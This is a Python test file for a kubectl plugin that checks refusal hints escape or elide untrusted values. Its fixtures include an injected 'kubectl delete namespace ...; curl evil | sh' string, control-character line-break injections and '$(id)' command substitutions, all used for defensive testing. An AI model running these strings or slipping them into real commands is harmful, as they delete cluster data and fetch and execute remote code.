"""Refusals as a person sees them: what comes from the cluster, git or a registry never begins a command."""

from collections.abc import Callable
from dataclasses import replace
from typing import cast

import pytest

from kubectl_rapt.actions import dead, preferences, retry
from kubectl_rapt.cli import copying, refusals
from kubectl_rapt.cli.commands import show
from kubectl_rapt.config import location
from kubectl_rapt.config.project import Environment, Project
from kubectl_rapt.errors import AGAIN, Problem, RaptError, Refused
from kubectl_rapt.model.target import Target
from kubectl_rapt.objects.runs import FAILED, Mount
from kubectl_rapt.ports.world import World
from kubectl_rapt.templating.definition import Template
from kubectl_rapt.templating.parameters import Parameter
from tests.given import a_run

HOSTILE = "prod\nkubectl delete namespace at-prod; curl evil | sh"
NOWHERE = cast("World", None)


def _of_another_environment() -> None:
    dev = Environment("dev", ("team-dev",), "uid-1")
    here = location.resolve(Project("0a1b2c3d", {"dev": dev}), dev, Target(), "")
    location.check_owner(here, HOSTILE, 'tool "big"')


def _retry_of_a_tool() -> None:
    retry.plan(NOWHERE, replace(a_run(), tool=HOSTILE, attempts=(), state=FAILED), {})


def _replay_of_a_tool() -> None:
    mounts = (Mount("ConfigMap", "one", "sha256:aa", "/etc/tool/settings.ini"),)
    dead.replay(NOWHERE, replace(a_run(), tool=HOSTILE, mounts=mounts), {})


@pytest.mark.parametrize("refused", [_of_another_environment, _retry_of_a_tool, _replay_of_a_tool])
def test_no_value_of_an_object_begins_a_command(
    refused: Callable[[], None], capsys: pytest.CaptureFixture[str]
) -> None:
    copying.remember([])
    with pytest.raises(RaptError) as caught:
        refused()
    refusals.tell(caught.value)
    hints = [one for one in capsys.readouterr().err.splitlines() if one.startswith(("  try:", "  or:"))]
    assert len(hints) == 1
    assert "…" in hints[0]
    assert "delete" not in hints[0]


def test_one_text_is_one_hint_whatever_is_in_it(capsys: pytest.CaptureFixture[str]) -> None:
    for end in "\n\r\x0b\x0c\x85\u2028":
        refusals.tell(Refused("no-right", "it is not permitted", f"ask prod{end}kubectl delete ns x"))
        hints = capsys.readouterr().err.splitlines()[1:-1]
        assert len(hints) == 1
        assert hints[0].startswith("  try: ask prod\\")


@pytest.mark.parametrize(
    ("message", "problems", "told"),
    [
        ("spec.parallelism[0]: has no value", [("/spec/parallelism/0", "has no value")], []),
        ("a: is wrong", [("a", "is wrong"), ("b", "is wrong")], ["  b  is wrong"]),
        (
            "two are wrong",
            [("a", "is wrong"), ("a", "is wrong"), ("bb", "is odd")],
            ["  a   is wrong", "  bb  is odd"],
        ),
        ("one is wrong", [("", "the name is missing")], ["  the name is missing"]),
    ],
)
def test_no_line_of_a_refusal_repeats_another(
    capsys: pytest.CaptureFixture[str], message: str, problems: list[tuple[str, str]], told: list[str]
) -> None:
    found = [Problem(where, what) for where, what in problems]
    refusals.tell(Refused("no-right", message, "git pull", found))
    assert capsys.readouterr().err.splitlines()[1:-2] == told


@pytest.mark.parametrize(
    ("hint", "shown"),
    [
        (AGAIN, "kubectl rapt sync --in prod"),
        (f"install git, then {AGAIN}", "install git, then: kubectl rapt sync --in prod"),
    ],
)
def test_a_hint_to_repeat_it_shows_the_command_that_was_typed(
    capsys: pytest.CaptureFixture[str], hint: str, shown: str
) -> None:
    copying.remember(["sync", "--in", "prod"])
    refusals.tell(Refused("no-right", "it is not permitted", hint))
    copying.remember([])
    assert capsys.readouterr().err.splitlines()[1] == f"  try: {shown}"


def test_several_hints_are_several_texts(capsys: pytest.CaptureFixture[str]) -> None:
    refusals.tell(Refused("no-right", "it is not permitted", ("git pull", "git push")))
    assert capsys.readouterr().err.splitlines()[1:3] == ["  try: git pull", "  or: git push"]


def test_what_show_proposes_does_nothing_but_add_the_template() -> None:
    script = Parameter("script", "string", example="x; touch PWN; echo $(id)", required=True)
    template = cast("Template", type("One", (), {"name": "run-script", "parameters": (script,)}))
    assert (
        show._try(template, "run-script")
        == "kubectl rapt add run-script --set script='x; touch PWN; echo $(id)'"
    )


def test_a_kube_context_is_one_word_of_a_command() -> None:
    dev = Environment("dev", namespaces=("team-dev",), cluster="2")
    for context, known in (("prod $(ide)", ["prod $(id)"]), ("one", ["one", "prod $(id)"])):
        with pytest.raises(RaptError) as caught:
            preferences._check_context(dev, context, known, lambda one: "1" if one == "one" else "2")
        assert caught.value.hint == "kubectl rapt config set contexts.dev 'prod $(id)'"


def test_a_flag_that_cannot_be_shown_is_not_left_out() -> None:
    copying.remember(["run", "big", "--context", "prod\u00ad-eu"])
    try:
        assert copying.here("kubectl rapt why a").endswith(" why --context … a")
    finally:
        copying.remember([])
